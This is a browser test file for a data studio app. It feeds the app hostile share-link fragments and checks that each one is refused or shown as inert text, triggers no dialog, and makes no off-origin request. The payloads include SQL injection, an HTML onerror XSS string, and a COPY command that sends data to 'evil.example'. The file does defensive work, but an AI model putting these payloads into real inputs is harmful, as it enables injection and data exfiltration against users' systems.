/**
 * Hostile share links, one row each (as rill tests its URL state): SQL in names and expressions,
 * `javascript:` and HTML in segment names, oversized, truncated and corrupted fragments, wrong
 * types, a future version, a config for other data. Each gives a clear message or is shown as
 * plain text, runs nothing (no dialog, no page error), makes no request off the origin, and
 * leaves a usable studio.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser, openStudio } from './harness';
import { encodeLinkFragment } from '../../src/lib/config/link';
import type { StudioConfig } from '../../src/lib/config/schema';

let browser: Browser;
let base: StudioConfig;

type Outcome = { refused: RegExp } | { waits: RegExp } | { shown: string };

const mutate = (f: (c: StudioConfig & Record<string, unknown>) => void): Promise<string> => {
  const c = structuredClone(base) as StudioConfig & Record<string, unknown>;
  f(c);
  return encodeLinkFragment(c);
};

const firstName = (c: StudioConfig, name: string) => {
  c.segmentation.rfm.segments[0].name = name;
};

const CASES: [string, () => Promise<string>, Outcome][] = [
  [
    'SQL in a segment name is a name',
    () => mutate((c) => firstName(c, "x'); DROP TABLE t; --")),
    { shown: "x'); DROP TABLE t; --" },
  ],
  [
    'javascript: in a segment name is text',
    () => mutate((c) => firstName(c, 'javascript:alert(1)')),
    { shown: 'javascript:alert(1)' },
  ],
  [
    'HTML in a segment name',
    () => mutate((c) => firstName(c, '<img src=x onerror=alert(1)>')),
    { refused: /segments\[0\]\.name: looks like HTML markup/ },
  ],
  [
    'SQL in a custom feature’s expression',
    () =>
      mutate((c) => {
        c.model = null;
        c.features!.features.push({
          id: 'evil',
          kind: 'custom',
          expr: "sum(amount)); COPY (SELECT 1) TO 'http://evil.example/x'; --",
          transform: { kind: 'none' },
          missing: 'zero',
        } as never);
      }),
    { refused: /features\.features\[\d+\]\.expr/ },
  ],
  [
    'a wrong type',
    () =>
      mutate((c) => {
        (c.segmentation.clusters as unknown as Record<string, unknown>).k = 'eight';
      }),
    { refused: /segmentation\.clusters\.k/ },
  ],
  [
    'a future version',
    () =>
      mutate((c) => {
        c.version = 99 as never;
      }),
    { refused: /version 99|newer/i },
  ],
  [
    'a config for other data',
    () =>
      mutate((c) => {
        for (const t of c.dataset!.tables) {
          t.file = `other-${t.file}.parquet`;
          t.format = 'parquet' as never;
        }
      }),
    { waits: /other-demo/ },
  ],
  ['a corrupted fragment', async () => 'c=abc$%^def', { refused: /base64url never uses/ }],
  [
    'a truncated fragment',
    async () => (await encodeLinkFragment(base)).slice(0, 400),
    { refused: /could not be read/ },
  ],
  ['an oversized fragment', async () => `c=${'A'.repeat(2_000_004)}`, { refused: /at most/ }],
];

beforeAll(async () => {
  browser = await launchBrowser();
  const { page } = await openStudio(browser);
  await page.getByRole('button', { name: /Segments/ }).click();
  await page.getByTestId('segment-table').waitFor({ timeout: 60_000 });
  base = JSON.parse((await page.getByTestId('studio-config').textContent()) ?? '{}');
  await page.context().close();
});
afterAll(async () => {
  await browser?.close();
});

describe('hostile share links', () => {
  it.each(CASES)('%s', async (_name, fragment, outcome) => {
    const studio = await openStudio(browser, `#${await fragment()}`);
    const { page } = studio;
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    if ('refused' in outcome) {
      const error = page.getByTestId('link-error');
      await error.waitFor({ timeout: 60_000 });
      expect(await error.textContent()).toMatch(outcome.refused);
      // The studio stays usable: the demo loads as without a link.
      await page.getByRole('tab', { name: /demo transactions/ }).waitFor({ timeout: 60_000 });
    } else if ('waits' in outcome) {
      const waiting = page.getByTestId('link-waiting');
      await waiting.waitFor({ timeout: 60_000 });
      expect(await waiting.textContent()).toMatch(outcome.waits);
    } else {
      await page.getByRole('button', { name: /Segments/ }).click();
      const name = page.getByTestId('segment-table').locator('input.name').first();
      await expect.poll(() => name.inputValue(), { timeout: 60_000 }).toBe(outcome.shown);
    }
    expect(dialogs).toEqual([]);
    expect(studio.pageErrors).toEqual([]);
    expect(studio.offOrigin).toEqual([]);
    await page.context().close();
  });
});
